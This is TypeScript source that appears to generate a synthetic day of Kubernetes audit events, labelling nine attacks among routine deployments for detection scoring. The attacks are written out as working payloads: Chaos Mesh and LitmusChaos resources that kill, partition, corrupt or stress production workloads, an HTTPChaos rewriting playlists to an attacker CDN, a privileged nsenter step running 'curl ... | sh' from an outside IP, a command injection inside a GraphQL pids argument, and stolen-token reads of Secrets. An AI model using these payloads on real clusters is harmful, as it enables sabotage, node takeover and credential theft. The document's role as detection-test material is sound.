      events.push({ ...base, at: t, method: 'PATCH', path: `/apis/apps/v1/namespaces/staging-${team}/deployments/${svc}?fieldManager=kubectl-set`, headers: SMP, body: JSON.stringify({ spec: { template: { spec: { containers: [{ name: svc, image: `123456789012.dkr.ecr.eu-west-1.amazonaws.com/${svc}:3.${40 + j}.0` }] } } } }) });
      if (j % 3 === 2) {
        const job = { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: `cdn-purge-${(seed * 1000 + j).toString(16)}`, namespace: 'cdn-ops' }, spec: { backoffLimit: 2, ttlSecondsAfterFinished: 3600, template: { spec: { restartPolicy: 'Never', containers: [{ name: 'purge', image: '123456789012.dkr.ecr.eu-west-1.amazonaws.com/cdn-purge:1.8.2', args: ['--surrogate-key', `release-${j}`], envFrom: [{ secretRef: { name: 'cdn-api-token' } }] }] } } } };
        events.push({ ...base, at: t + 90 * S, method: 'POST', path: '/apis/batch/v1/namespaces/cdn-ops/jobs', headers: JSON_CT, body: JSON.stringify(job) });
      }
    }
  }
  events.sort((a, b) => a.at - b.at);
  return withAttacks(events, attacks20(people, events));
}

function attacks20(people: Person[], routine: DayEvent[]): DayEvent[] {
  const out: DayEvent[] = [];
  const { by, add, T, on } = attackKit(out, people, D20_THU, API);
  const kubectlOf = (x: DayEvent) => x.ua.startsWith('kubectl/');
  const laptop = (attack: string, victim: Person, h: number, reqs: AttackRequest[], gap: number) => {
    const v = lastScoredOf(routine, victim.name, T(h), kubectlOf);
    add(attack, T(h), v.ip, v.ua, v.login, on(reqs), gap, victim);
  };
  const cm = (plural: string, ns = CHAOS_NS) => `/apis/chaos-mesh.org/v1alpha1/namespaces/${ns}/${plural}?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`;

  // 1. Malware on dev-1's laptop (a game-day participant) at 14:50, between their own
  // experiments: a PodChaos killing every production playback pod, and a Schedule that kills an
  // edge cache every two minutes through the evening, both written where the game day writes.
  const dev1 = by('dev-1');
  const kill = { ...chaosMeta('PodChaos', 'gameday-podchaos-91'), spec: { action: 'pod-kill', mode: 'all', selector: { namespaces: ['prod-playback'], labelSelectors: { app: 'manifest-api' } }, gracePeriod: 0 } };
  const sched = { ...chaosMeta('Schedule', 'gameday-schedule-92'), spec: { schedule: '@every 2m', historyLimit: 1, concurrencyPolicy: 'Allow', type: 'PodChaos', podChaos: { action: 'pod-kill', mode: 'fixed-percent', value: '50', selector: { namespaces: ['prod-edge'] } } } };
  laptop('a PodChaos and a Schedule in chaos-testing that kill production playback and edge pods (game-day laptop)', dev1, 14.83, [
    ['GET', `/apis/chaos-mesh.org/v1alpha1/namespaces/${CHAOS_NS}/podchaos`, false],
    ['POST', cm('podchaos'), true, JSON_CT, JSON.stringify(kill)],
    ['POST', cm('schedules'), true, JSON_CT, JSON.stringify(sched)],
  ], 6 * S);

  // 2. Malware on sre-dub-2's laptop at 15:20: an HTTPChaos replacing the body of production's
  // manifest responses (the HLS master playlist now names the attacker's CDN), for a day.
  const dub2 = by('sre-dub-2');
  const playlist = '#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=6000000\nhttps://cdn.str3amly-edge.example/v/master_1080.m3u8\n';
  const mitm = { ...chaosMeta('HTTPChaos', 'gameday-httpchaos-93'), spec: { mode: 'all', selector: { namespaces: ['prod-playback'], labelSelectors: { app: 'manifest-api' } }, target: 'Response', port: 8080, method: 'GET', path: '/v1/manifest/*', replace: { code: 200, body: Buffer.from(playlist).toString('base64'), headers: { 'Cache-Control': 'public, max-age=86400' } }, duration: '24h' } };
  laptop("an HTTPChaos that rewrites production's manifest responses to the attacker's CDN (SRE laptop)", dub2, 15.33, [
    ['GET', `/apis/chaos-mesh.org/v1alpha1/namespaces/${CHAOS_NS}/httpchaos`, false],
    ['POST', cm('httpchaos'), true, JSON_CT, JSON.stringify(mitm)],
  ], 5 * S);

  // 3. Malware on dev-7's laptop (catalog, never in the game day) at 11:40: written in their own
  // dev namespace, a NetworkChaos cutting production's catalog database off from its API for a
  // day, and an IOChaos that corrupts a fifth of its writes.
  const dev7 = by('dev-7');
  const own = `dev-${dev7.short}`;
  const cut = { apiVersion: 'chaos-mesh.org/v1alpha1', kind: 'NetworkChaos', metadata: { name: 'latency-probe', namespace: own }, spec: { action: 'partition', mode: 'all', selector: { namespaces: ['prod-catalog'], labelSelectors: { app: 'catalog-db' } }, direction: 'both', target: { mode: 'all', selector: { namespaces: ['prod-catalog'], labelSelectors: { app: 'catalog-api' } } }, duration: '24h' } };
  const rot = { apiVersion: 'chaos-mesh.org/v1alpha1', kind: 'IOChaos', metadata: { name: 'disk-probe', namespace: own }, spec: { action: 'mistake', mode: 'all', selector: { namespaces: ['prod-catalog'], labelSelectors: { app: 'catalog-db' } }, volumePath: '/var/lib/postgresql/data', path: '/var/lib/postgresql/data/**/*', mistake: { filling: 'random', maxOccurrences: 3, maxLength: 64 }, methods: ['WRITE'], percent: 20, duration: '720h' } };
  laptop("a NetworkChaos partition and an IOChaos corrupting production's catalog database, written in the developer's own dev namespace", dev7, 11.66, [
    ['GET', `/api/v1/namespaces/${own}/pods`, false],
    ['POST', cm('networkchaos', own), true, JSON_CT, JSON.stringify(cut)],
    ['POST', cm('iochaos', own), true, JSON_CT, JSON.stringify(rot)],
  ], 7 * S);

  // 4. Malware on platform-3's laptop (who installed Litmus for the game day) at 15:05: the
  // pod-delete ChaosExperiment's definition given the attacker's image, privileged with the host's
  // PIDs and its /, then a ChaosEngine that runs it with litmus-admin's cluster-wide rights.
  const pf3 = by('platform-3');
  const experiment = { apiVersion: 'litmuschaos.io/v1alpha1', kind: 'ChaosExperiment', metadata: { name: 'pod-delete', namespace: 'staging-catalog' }, spec: { definition: { scope: 'Namespaced', image: 'ghcr.io/litmus-go-runner/go-runner:3.11.0', imagePullPolicy: 'Always', command: ['/bin/bash'], args: ['-c', 'nsenter -t 1 -m -u -i -n -- sh -c "curl -s https://203.0.113.45/n | sh"; ./experiments -name pod-delete'], hostPID: true, securityContext: { containerSecurityContext: { privileged: true } }, hostFileVolumes: [{ name: 'root', mountPath: '/host', nodePath: '/' }], labels: { name: 'pod-delete' } } } };
  laptop("a LitmusChaos ChaosExperiment given a privileged hostPID definition with the node's /, run as litmus-admin (platform laptop)", pf3, 15.08, [
    ['GET', '/apis/litmuschaos.io/v1alpha1/namespaces/staging-catalog/chaosexperiments/pod-delete', false],
    ['PATCH', '/apis/litmuschaos.io/v1alpha1/namespaces/staging-catalog/chaosexperiments/pod-delete?fieldManager=kubectl-client-side-apply', true, MERGE, JSON.stringify(experiment)],
    ['POST', '/apis/litmuschaos.io/v1alpha1/namespaces/staging-catalog/chaosengines', true, JSON_CT, JSON.stringify(litmusEngine('staging-catalog', 'catalog-api', 'litmus-admin', 'catalog-pod-delete-99'))],
  ], 8 * S);

  // 5. From dub-1's laptop at 15:40 (a game-day participant who reads the controller's logs): the
  // controller-manager's GraphQL debugging server through the API server's service proxy, a
  // mutation whose argument the chaos-daemon runs as a shell command on the pod's node.
  const dub1 = by('sre-dub-1');
  const gql = JSON.stringify({ query: 'mutation { pod(ns: "prod-edge", name: "edge-cache-7d9c5f4xk2p") { killProcesses(pids: ["1; curl -s https://203.0.113.45/d | sh"]) { pid } } }' });
  laptop("the Chaos Mesh controller's GraphQL debugging server through the service proxy, a command run by chaos-daemon on a node (game-day laptop)", dub1, 15.66, [
    ['GET', '/api/v1/namespaces/chaos-mesh/services', false],
    ['POST', '/api/v1/namespaces/chaos-mesh/services/chaos-mesh-controller-manager:10082/proxy/query', true, JSON_CT, gql],
  ], 5 * S);

  // 6. Malware on dev-5's laptop (a mirrord user) minutes after their own mirrord session: an
  // agent Job in their own dev namespace, pinned to a production pod's node and aimed at its
  // container, stealing its traffic and reading its mounted Secrets through /proc.
  const dev5 = by('dev-5');
  const session = routine.find((e) => e.actor === dev5.name && e.scored && e.method === 'POST' && e.path.includes('/jobs'));
  const after = session ? (session.at - D20_THU) / H + 4 / 60 : 13;
  const sessionReqs = mirrordSession('prod-catalog', 'catalog-api', prng(7), `dev-${dev5.short}`, 'ip-10-42-131-9.eu-west-1.compute.internal', 'containerd://9f3b2e71c0ad');
  const v6 = lastScoredOf(routine, dev5.name, T(after), kubectlOf);
  add("a mirrord agent in the developer's own namespace aimed at a production pod's container, minutes after their own session (laptop)", T(after), v6.ip, KUBE_RS, v6.login, on(sessionReqs.map((q, i): AttackRequest => [q.method, q.path, i >= 2, q.headers, q.body])), 3 * S, dev5);

  // 7. dub-1's kubelogin cache (copied by an infostealer) used at 16:40, in the hour after their
  // 16:00 handover, through the company VPN's Seattle egress.
  const v7 = lastScoredOf(routine, dub1.name, T(16), kubectlOf);
  add("the Dublin on-call's kubelogin cache used after their 16:00 handover, through the company VPN's Seattle egress", T(16.66), VPN.sea, v7.ua, v7.login, on([
    ['GET', '/api/v1/events?limit=500&fieldSelector=type%3DWarning', false],
    ['GET', '/api/v1/namespaces/prod-playback/secrets/manifest-api-env', true],
    ['GET', '/api/v1/namespaces/prod-edge/secrets/cdn-signing-key', true],
  ]), 20 * S, dub1);

  // 8. Malware on platform-1's laptop at 19:20, at Europe's evening peak: the spot pool's
  // disruption budget opened to every node and consolidation forced, draining the fleet at once.
  const pf1 = by('platform-1');
  laptop("a Karpenter NodePool's disruption budget opened to 100% at the evening peak (platform laptop)", pf1, 19.33, [
    ['GET', '/apis/karpenter.sh/v1/nodepools/general-spot', false],
    ['PATCH', '/apis/karpenter.sh/v1/nodepools/general-spot?fieldManager=kubectl-patch', true, MERGE, JSON.stringify({ spec: { disruption: { consolidationPolicy: 'WhenEmptyOrUnderutilized', consolidateAfter: '0s', budgets: [{ nodes: '100%' }] } } })],
  ], 5 * S);

  // 9. A game-day participant's token (dev-1's, captured from a screen-shared terminal) replayed
  // from a VPS at 19:45: a StressChaos eating production's edge caches at the peak.
  const v9 = lastScoredOf(routine, dev1.name, T(17), kubectlOf);
  const stress = { ...chaosMeta('StressChaos', 'gameday-stress-94'), spec: { mode: 'all', selector: { namespaces: ['prod-edge'] }, stressors: { cpu: { workers: 8, load: 100 }, memory: { workers: 4, size: '90%' } }, duration: '2h' } };
  add("a StressChaos on production's edge caches at the peak, with a game-day participant's token from a VPS", T(19.75), '185.220.101.47', v9.ua, v9.login, on([
    ['GET', `/apis/chaos-mesh.org/v1alpha1/namespaces/${CHAOS_NS}/stresschaos`, false],
    ['POST', cm('stresschaos'), true, JSON_CT, JSON.stringify(stress)],
  ]), 6 * S);
  return out;
}
